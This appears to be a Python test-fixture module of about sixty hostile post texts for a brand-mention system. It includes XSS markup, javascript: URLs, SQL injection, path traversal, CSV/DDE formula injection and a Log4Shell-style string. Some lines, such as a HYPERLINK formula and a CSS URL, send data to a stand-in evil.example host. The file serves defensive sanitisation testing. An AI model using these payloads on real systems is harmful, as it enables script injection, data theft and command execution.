"""Sixty posts that somebody writes who means harm, or whose words break what handles them carelessly.

Each is a text by its name. Some are fit to be an author's name, an address or a platform's id as well: `NAMES`, `LINKS`
and `IDS` say which.
"""

from collections.abc import Mapping

WORD = "acme"  # so that each names the brand

HOSTILE: Mapping[str, str] = {
    # Markup that a page must not act on.
    "script": "acme <script>alert('owned')</script>",
    "script split": "acme <scr<script>ipt>alert(1)</scr</script>ipt>",
    "script upper": "acme <SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image handler": "acme <img src=x onerror=alert(1)>",
    "body handler": 'acme "><body onload="alert(1)">',
    "attribute break": 'acme " onmouseover="alert(1)" autofocus onfocus=\'alert(2)',
    "svg": "acme <svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "math": 'acme <math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "iframe": "acme <iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "style": "acme <style>body{background:url(//evil.example/?leak)}</style>",
    "style attribute": 'acme <p style="position:fixed;inset:0">covered</p>',
    "meta refresh": 'acme <meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": 'acme <base href="//evil.example/">',
    "form": 'acme <form action="//evil.example"><input name="csrf"><button>Log in</button></form>',
    "anchor": 'acme <a href="javascript:alert(document.cookie)">refund here</a>',
    "comment break": "acme --><script>alert(1)</script><!--",
    "title break": "acme </title></textarea></style></noscript><script>alert(1)</script>",
    "json break": 'acme </script><script>alert(1)</script> {"x": "\\u003c"}',
    "cdata": "acme ]]><script>alert(1)</script><![CDATA[",
    "entities": "acme &lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    # Addresses that run code.
    "javascript link": "acme javascript:alert(1)",
    "javascript hidden": "acme java\tscript:alert(1) JaVaScRiPt\n:alert(1)",
    "data link": "acme data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript link": "acme vbscript:msgbox(1)",
    "long url": "acme https://evil.example/" + "a" * 8000,
    # Template languages.
    "jinja": "acme {{ 7 * 7 }} {{ config.items() }} {% for x in range(9) %}x{% endfor %} {# gone #}",
    "format": "acme {0} {author.__class__} %s %(password)s ${jndi:ldap://evil.example/a}",
    # Writing that turns, hides or piles up.
    "right to left override": "acme \u202egnp.exe\u202c is fine",
    "isolates": "acme \u2067\u2066\u2068 unclosed",
    "embedding": "acme \u202b\u202a\u202d unclosed",
    "hebrew and arabic": "acme \u05e9\u05dc\u05d5\u05dd 123 \u0645\u0631\u062d\u0628\u0627!",
    "zero width": "ac\u200bme acme \u200b\u200c\u200d\ufeff\u2060",
    "zalgo": "acme " + "".join(letter + "\u0301\u0327\u0334" * 60 for letter in "acme"),
    "hidden tags": "acme \U000e0001\U000e0068\U000e0069\U000e007f",
    "confusables": "\u0430cm\u0435 \uff21\uff43\uff4d\uff45 acme \u0391\u217e\u217f",
    "emoji": "acme \U0001f469\U0001f3fd\u200d\U0001f692 \u2764\ufe0f \U0001f1e6 \U0001f3f4"
    "\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",  # the flag of England
    # Spreadsheets.
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"acme")',
    "formula plus": "+acme+cmd|' /C calc'!A0",
    "formula minus": "-2+3+acme+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*acme",
    "formula tab": "\t=1+1 acme",
    "formula return": "\r=1+1 acme",
    "dde": '=DDE("cmd";"/C calc";"acme")',
    "csv break": 'acme","=1+1","x\n"y;z\tw',
    # Chat services.
    "mass mention": "acme @everyone @here @channel @all",
    "slack mention": "acme <!channel> <!here> <@U012AB3CD> <!subteam^S1>",
    "markdown link": "acme [refund here](https://evil.example) ![x](https://evil.example/pixel.png)",
    "markdown": "acme **bold** _it_ ~~gone~~ `code` ||spoiler|| > quote\n# heading\n- [ ] list",
    # What breaks what handles it.
    "nul": "acme before\x00after",
    "control characters": "acme \x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f\x85\x9b",
    "ansi escapes": "acme \x1b[2J\x1b]0;owned\x07\x1b[31mred \x9b1m",
    "header injection": "acme\r\nSet-Cookie: owned=1\r\nBcc: all@evil.example\r\n\r\n<script>alert(1)</script>",
    "lone surrogate": "acme \ud83d alone \udc00",
    "line separators": "acme\u2028second\u2029third\x85fourth",
    "sql": "acme'; DROP TABLE mentions; -- \" OR 1=1",
    "search syntax": 'acme" OR * NEAR( AND NOT "',
    "path": "acme ../../../../etc/passwd %2e%2e%2f ..\\..\\windows",
    "long": "acme " + "spam and eggs, " * 6_800,
    "long word": "acme" + "\u00e4" * 100_000,
    "whitespace": " \u00a0\u3000 \n\n\t acme \n" + "\n" * 500,
}

# Fit to be what an author is called.
NAMES = tuple(
    HOSTILE[name]
    for name in (
        "script",
        "image handler",
        "attribute break",
        "anchor",
        "jinja",
        "right to left override",
        "isolates",
        "zalgo",
        "formula",
        "formula at",
        "mass mention",
        "slack mention",
        "markdown link",
        "control characters",
        "ansi escapes",
        "header injection",
        "sql",
        "path",
        "title break",
    )
)
# Fit to be the address of a post: none of them may become a link, but the last.
LINKS = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "JAVASCRIPT:alert(1)//https://x.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/" + "a" * 8000,
)
# Fit to be a platform's id of a post.
IDS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../etc/passwd",
    "=1+1",
    "1?x=1&y=2#z",
    "'; DROP TABLE mentions; --",
    "\u202e1",
    "a b/c%2fd",
)
